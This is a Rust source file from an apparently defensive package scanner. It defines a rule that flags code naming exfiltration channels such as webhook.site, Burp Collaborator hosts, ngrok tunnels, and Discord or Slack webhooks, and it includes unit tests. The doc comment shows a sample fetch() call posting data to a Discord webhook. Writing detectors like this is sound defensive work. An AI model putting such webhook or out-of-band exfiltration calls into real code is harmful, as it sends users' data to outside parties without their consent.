use crate::{declare_rule, Category, RawFinding, Rule, RuleMeta, Severity};
use std::collections::BTreeSet;
use telltale_facts::FileFacts;
use telltale_knowledge::vendors;

declare_rule! {
    /// ## What it detects
    /// The address of a service that takes data from anyone for whoever holds the address: a
    /// request catcher (`webhook.site/<uuid>`, `<id>.m.pipedream.net`), an out-of-band test host
    /// (Burp Collaborator `*.oastify.com`, interactsh `*.oast.fun`, DNS logs), a tunnel to a
    /// private machine (`<id>.ngrok-free.app`), or a chat channel with its secret in the URL
    /// (a Discord or Slack webhook, a Telegram bot token). The service's own site, docs and a
    /// client library's route templates are not reported (see `data/exfil_channels.toml`).
    ///
    /// ## Why it matters
    /// Data sent there goes to a person, not to a product: this is where recon and
    /// credential-stealing packages deliver what they collect, and no ordinary package ships a
    /// private webhook or a test host. Also when the data flow to it was not traced.
    ///
    /// ## Example
    /// ```js
    /// fetch("https://discord.com/api/webhooks/1234567890123456789/AbC…", { method: "POST", body });
    /// ```
    ExfiltrationChannel { id: "TT304", name: "exfiltration-channel", category: Category::Exfiltration, severity: Severity::Medium }
}

impl Rule for ExfiltrationChannel {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }
    fn check(&self, f: &FileFacts, out: &mut Vec<RawFinding>) {
        let mut seen = BTreeSet::new();
        for e in &f.endpoints {
            let address = e.url.as_deref().unwrap_or(&e.host);
            let Some(channel) = vendors::exfil_channel(address) else {
                continue;
            };
            if !seen.insert(e.host.clone()) {
                continue;
            }
            let mut r = RawFinding::new(
                &Self::META,
                e.span,
                format!("names {} ({}): {}", channel.name, channel.kind, e.host),
            );
            r.endpoints.push(e.host.clone());
            r.evidence.push(address.to_string());
            if !e.provenance.is_empty() {
                r.evidence.push(e.provenance.clone());
            }
            out.push(r);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::fixture::{facts, run};
    use telltale_facts::{EndpointFact, Span};

    fn endpoint(url: &str) -> EndpointFact {
        EndpointFact {
            host: url
                .split("://")
                .nth(1)
                .unwrap_or(url)
                .split('/')
                .next()
                .unwrap_or(url)
                .into(),
            url: Some(url.into()),
            span: Span::new(0, 1),
            encodings: vec![],
            provenance: String::new(),
            origin: None,
            in_text: false,
        }
    }

    #[test]
    fn channels_with_their_own_address_only() {
        let mut f = facts();
        f.endpoints
            .push(endpoint("https://discord.com/api/webhooks/{id}/{token}"));
        f.endpoints.push(endpoint("https://ngrok.com/download"));
        assert!(run(&ExfiltrationChannel, &f).is_empty());
        f.endpoints.push(endpoint("https://x7k2ab.oastify.com/c"));
        f.endpoints.push(endpoint("https://x7k2ab.oastify.com/d"));
        let found = run(&ExfiltrationChannel, &f);
        assert_eq!(found.len(), 1, "one per host");
        assert!(
            found[0].message.contains("Burp Collaborator"),
            "{}",
            found[0].message
        );
    }
}
